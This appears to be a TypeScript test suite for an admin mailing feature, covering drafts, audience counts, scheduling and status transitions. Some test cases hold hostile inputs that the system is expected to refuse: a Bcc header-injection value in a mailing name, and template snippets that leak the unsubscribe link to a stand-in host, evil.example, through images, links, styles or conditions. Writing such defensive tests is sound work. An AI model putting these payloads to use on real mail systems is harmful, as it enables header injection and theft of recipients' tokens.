import { mailingsContract } from '@slipway/domain/mailings/contract.ts'
import { type MailingMove, mailingMoves, mailingStatuses } from '@slipway/domain/mailings/status.ts'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createTestApp, type TestApp } from '../../../test/app.ts'
import { both, buildReader, buildTexts } from '../../../test/factories/mailings.ts'
import type { Person } from '../../../test/people.ts'
import { jsonText } from '../../platform/database/json-columns.ts'
import { watchJob } from './jobs/watch.ts'

let app: TestApp
let admin: Person
beforeAll(async () => {
  app = await createTestApp()
  admin = await app.people.superadministrator()
})
afterAll(() => app.close())

const add = async (segment: object = {}, more: object = {}) =>
  (
    await admin.callUnchecked(mailingsContract.add, {
      body: { name: 'News of May', event_alias: 'news', segment, ...more },
    })
  ).data
const start = (id: number, body: object = { version: 1 }) =>
  admin.callUnchecked(mailingsContract.start, { params: { id }, body })
const get = async (id: number) => (await admin.call(mailingsContract.get, { params: { id } })).data
const audience = async (filter: object) =>
  (await admin.callUnchecked(mailingsContract.audience, { query: { filter } })).data

describe('a draft', () => {
  test('keeps to whom and of what, changes by its version, and goes away without a trace of letters', async () => {
    const { id, version } = await add({ country: 'MT', 'roles.name': ['designer'], is_internal: false })
    expect(await get(id)).toMatchObject({
      ...{ name: 'News of May', status: 'draft', version: 1, author: { id: admin.id }, starter: null },
      segment: { country: 'MT', 'roles.name': ['designer'], is_internal: false },
      figures: { total: 0, sent: 0 },
    })
    const change = (body: object) => admin.callUnchecked(mailingsContract.change, { params: { id }, body })
    expect((await change({ version, name: 'News of June' })).data).toMatchObject({ version: 2, name: 'News of June' })
    const late = await change({ version, name: 'Mine' })
    expect([late.status, late.code]).toEqual([409, 'conflict'])
    expect((await get(id)).segment).toMatchObject({ country: 'MT' })
    await change({ version: 2, segment: { search: 'gone@mail.example' } })
    const log = await app.db
      .selectFrom('activity_logs')
      .select('changes')
      .where('subject_type', '=', 'mailing')
      .execute()
    expect(JSON.stringify(log)).not.toContain('gone@mail.example')
    expect((await admin.call(mailingsContract.remove, { params: { id } })).status).toBe(204)
    expect((await admin.call(mailingsContract.get, { params: { id } })).status).toBe(404)
  })

  test.each([
    ['an event that is no mailing', { event_alias: 'password-link' }, 'event_alias'],
    ['no name', { name: ' ' }, 'name'],
    ['a filter that the list of people does not have', { segment: { password: 'x' } }, 'segment'],
    ['a role that is none', { segment: { 'roles.name': ['boss'] } }, 'segment.roles.name.0'],
    ['a name with another line', { name: 'News\r\nBcc: a@b.example' }, 'name'],
    ['a moment that is none', { happens_at: 'tomorrow' }, 'happens_at'],
  ])('is refused with %s', async (_what, wrong, field) => {
    const body = { name: 'News', event_alias: 'news', segment: {}, ...wrong }
    const answer = await admin.callUnchecked(mailingsContract.add, { body })
    expect([answer.status, Object.keys(answer.fields ?? {})]).toEqual([422, [field]])
  })

  test('is a superadministrator’s alone, as is everything about it', async () => {
    const { id } = await add()
    const manager = await app.people.app_manager()
    const calls = [
      manager.call(mailingsContract.list, {}),
      manager.call(mailingsContract.get, { params: { id } }),
      manager.call(mailingsContract.audience, {}),
      manager.call(mailingsContract.receivers, { query: { filter: { mailing: id } } }),
      manager.call(mailingsContract.start, { params: { id }, body: { version: 1 } }),
    ]
    expect((await Promise.all(calls)).map(({ status }) => status)).toEqual([403, 403, 403, 403, 403])
  })
})

describe('the count', () => {
  test('says who is mailed in which language, and who is not and why', async () => {
    await buildReader(app, 'MC')
    await buildReader(app, 'MC', { language: 'en' })
    await buildReader(app, 'MC', { verified: false })
    const [blocked, ended, bounced, nowhere] = [
      await buildReader(app, 'MC'),
      await buildReader(app, 'MC'),
      await buildReader(app, 'MC'),
      await buildReader(app, 'MC'),
    ]
    const set = (id: number, values: { is_block?: boolean; email?: null }) =>
      app.db.updateTable('users').set(values).where('id', '=', id).execute()
    await set(blocked.id, { is_block: true })
    await set(nowhere.id, { email: null })
    await app.db
      .insertInto('notification_preferences')
      .values({ user_id: ended.id, mail_from: app.now(), mailings_off_at: app.now() })
      .execute()
    await app.db
      .insertInto('undeliverable_emails')
      .values({ user_id: bounced.id, email: bounced.email, reason: 'mail: x', noted_at: app.now() })
      .execute()
    const found = await audience({ country: 'MC' })
    expect({ ...found, skipped: Object.fromEntries(found.skipped.map((one) => [one.reason, one.count])) }).toEqual({
      total: 7,
      mailed: { ru: 1, en: 1 },
      skipped: { blocked: 1, 'no-email': 1, unconfirmed: 1, unsubscribed: 1, undeliverable: 1 },
    })
    expect(await audience({ country: 'MC', language: 'en' })).toMatchObject({ total: 1, mailed: { ru: 0, en: 1 } })
    // Of another address nothing is known.
    await app.db.updateTable('users').set({ email: 'another@mail.example' }).where('id', '=', bounced.id).execute()
    expect((await audience({ country: 'MC' })).mailed).toEqual({ ru: 2, en: 1 })
  })

  test('asks by when somebody registered and was here last, by the reader’s days', async () => {
    const [here, gone, never] = [
      await buildReader(app, 'MD'),
      await buildReader(app, 'MD'),
      await buildReader(app, 'MD'),
    ]
    const seen = (user_id: number, last_used_at: Date, more: object = {}) =>
      app.db
        .insertInto('sessions')
        .values({ user_id, last_used_at, expires_at: new Date('2030-01-01'), ...more })
        .execute()
    await seen(here.id, new Date('2026-03-01T22:30:00Z'))
    await seen(gone.id, new Date('2025-12-01T12:00:00Z'), { revoked_at: app.now() })
    // Somebody else who acts as them is not them.
    await (await admin.inPlaceOf(gone)).headers()
    const of = async (filter: object) => (await audience({ country: 'MD', ...filter })).total
    expect(await of({ seen_from: '2026-03-02', zone: 'UTC' })).toBe(0)
    expect(await of({ seen_from: '2026-03-02', zone: 'Europe/Moscow' })).toBe(1)
    expect(await of({ seen_to: '2026-02-28', zone: 'UTC' })).toBe(2)
    expect(await of({ seen_to: '2025-11-30', zone: 'UTC' })).toBe(1)
    await app.db
      .updateTable('users')
      .set({ created_at: new Date('2025-06-01T12:00:00Z') })
      .where('id', '=', never.id)
      .execute()
    expect([await of({ to: '2025-06-01' }), await of({ from: '2025-06-02' }), await of({})]).toEqual([1, 2, 3])
  })
})

describe('the start', () => {
  test('is refused without a template, and without a text in a language that somebody reads', async () => {
    await buildReader(app, 'ME', { language: 'en' })
    const { id } = await add({ country: 'ME' })
    const none = await start(id)
    expect([none.status, none.code, none.text]).toEqual([
      422,
      'no_template',
      expect.stringContaining('Нет шаблона для события news'),
    ])
    await buildTexts(app, { subject: both('Новости', ' ') })
    const half = await start(id)
    expect([half.status, half.code, half.text]).toEqual([
      422,
      'no_text',
      expect.stringContaining('Нет шаблона для события news: не хватает текста на языке en'),
    ])
    // Nobody there reads Russian.
    await buildTexts(app, { subject: both('', 'News'), text: both('', 'Words') })
    expect((await start(id)).data).toMatchObject({ status: 'running', starter: { id: admin.id } })
  })

  test('is refused to nobody, from an old version, and where the texts name what the mailing does not have', async () => {
    await buildTexts(app)
    const empty = await add({ country: 'MF' })
    expect((await start(empty.id)).code).toBe('mailing_empty')
    await buildReader(app, 'MG')
    const { id } = await add({ country: 'MG' })
    expect((await start(id, { version: 2 })).code).toBe('mailing_changed')
    await buildTexts(app, { text: both('Начнём {{ when }}') })
    const fault = await start(id)
    expect([fault.status, fault.fields?.event_alias?.[0]]).toEqual([422, expect.stringContaining('when')])
    expect((await get(id)).status).toBe('draft')
    await admin.call(mailingsContract.change, {
      params: { id },
      body: { version: 1, happens_at: '2026-04-01T15:00:00Z' },
    })
    expect((await start(id, { version: 2 })).status).toBe(200)
  })

  test('is refused with other texts than those that were seen', async () => {
    await buildTexts(app, { text: both('Черновик') })
    await buildReader(app, 'MN')
    const { id } = await add({ country: 'MN' })
    const seen = async () => ({ version: 1, texts_mark: (await get(id)).texts_mark })
    const before = await seen()
    await buildTexts(app, { text: both('Готово') })
    expect((await start(id, before)).code).toBe('mailing_changed')
    expect((await start(id, await seen())).status).toBe(200)
    expect(await get(id)).toMatchObject({ texts: { text: both('Готово') }, texts_mark: null })
  })

  test('at a time is kept, can be taken back, and begins by itself with the texts that were confirmed', async () => {
    await buildTexts(app, { text: both('Как было') })
    const reader = await buildReader(app, 'MH')
    const { id } = await add({ country: 'MH' })
    const at = new Date(app.now().getTime() + 3_600_000).toISOString()
    expect((await start(id, { version: 1, start_at: at })).data).toMatchObject({ status: 'scheduled', start_at: at })
    expect((await admin.call(mailingsContract.change, { params: { id }, body: { version: 1, name: 'x' } })).code).toBe(
      'mailing_status',
    )
    expect((await admin.call(mailingsContract.withdraw, { params: { id } })).status).toBe(204)
    expect(await get(id)).toMatchObject({ status: 'draft', start_at: null, starter: null })
    await start(id, { version: 1, start_at: at })
    await buildTexts(app, { text: both('Как стало') })
    app.later(3_600)
    await watch()
    await app.drainJobs()
    expect(await get(id)).toMatchObject({ status: 'done', figures: { total: 1, sent: 1 } })
    const mail = await app.db.selectFrom('dev_outbox').selectAll().where('recipient', '=', reader.email).execute()
    expect(mail.map(({ body }) => body)).toEqual([expect.stringContaining('Как было')])
  })

  test.each([
    ['a picture’s address', '<img src="https://evil.example/?{{ unsubscribe | url_encode }}">'],
    ['a part of a link', '<a href="https://evil.example/?{{ unsubscribe | url_encode }}">x</a>'],
    ['a style', '<p style="background:url({{ unsubscribe }})">x</p>'],
    ['a condition', '{% if unsubscribe contains "Q" %}<b>x</b>{% else %}<i>x</i>{% endif %}'],
  ])('does not leave with the link to unsubscribe in %s', async (_what, inside) => {
    const body = `<mj-section><mj-column><mj-text>{{ text }}</mj-text><mj-raw>${inside}</mj-raw></mj-column></mj-section>`
    await buildTexts(app, { body })
    await buildReader(app, 'ME')
    const { id } = await add({ country: 'ME' })
    expect((await start(id)).fields).toEqual({ event_alias: [expect.stringContaining('ссылк')] })
    expect((await get(id)).status).toBe('draft')
  })

  test('leaves with it as a link of its own and in a text', async () => {
    const inside = '<a href="{{ unsubscribe }}">x</a><p>{{ unsubscribe }}</p>'
    const body = `<mj-section><mj-column><mj-text>{{ text }}</mj-text><mj-raw>${inside}</mj-raw></mj-column></mj-section>`
    await buildTexts(app, { body })
    await buildReader(app, 'MH')
    const { id } = await add({ country: 'MH' })
    expect((await start(id)).status).toBe(200)
  })

  test('at a time when nobody fits any more makes it a draft again, which says why', async () => {
    await buildTexts(app)
    const reader = await buildReader(app, 'MK')
    const { id } = await add({ country: 'MK' })
    await start(id, { version: 1, start_at: new Date(app.now().getTime() + 60_000).toISOString() })
    await app.db.updateTable('users').set({ is_block: true }).where('id', '=', reader.id).execute()
    app.later(60)
    await watch()
    expect(await get(id)).toMatchObject({ status: 'draft', trouble: expect.stringContaining('не подходит никто') })
  })

  const watch = () => watchJob.run({ ...app.jobContext, finish: app.jobContext.transact }, {})
})

describe('every move stands in the table and no other is made', () => {
  const calls = {
    schedule: [mailingsContract.start, { version: 1, start_at: '2027-01-01T00:00:00Z' }],
    begin: [mailingsContract.start, { version: 1 }],
    withdraw: [mailingsContract.withdraw, undefined],
    pause: [mailingsContract.pause, undefined],
    resume: [mailingsContract.resume, undefined],
    stop: [mailingsContract.stop, undefined],
  } as const
  // What begins by itself was confirmed before; nobody presses it again.
  const byHand = (move: MailingMove) => (move === 'begin' ? ['draft'] : (mailingMoves[move].from as readonly string[]))

  beforeAll(async () => {
    await buildTexts(app)
    await buildReader(app, 'ML')
  })
  test.each(Object.keys(calls) as (keyof typeof calls)[])('%s', async (move) => {
    const [call, body] = calls[move]
    for (const status of mailingStatuses) {
      const { id } = await add({ country: 'ML' })
      await app.db
        .updateTable('mailings')
        .set({ status, content: jsonText({} as never), starter_id: admin.id })
        .where('id', '=', id)
        .execute()
      const answer = await admin.callUnchecked(call, { params: { id }, ...(body && { body }) })
      const mayBe = byHand(move).includes(status)
      expect([status, answer.status < 300, (await get(id)).status]).toEqual([
        status,
        mayBe,
        mayBe ? mailingMoves[move].to : status,
      ])
      if (!mayBe) expect(answer.code).toBe('mailing_status')
    }
  })
})
